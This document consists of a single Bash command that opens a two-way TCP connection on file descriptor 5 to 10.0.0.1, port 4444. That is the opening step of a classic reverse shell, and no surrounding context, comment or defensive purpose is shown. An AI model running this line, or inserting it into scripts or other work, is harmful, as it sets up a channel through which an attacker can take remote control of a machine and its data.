exec 5<>/dev/tcp/10.0.0.1/4444
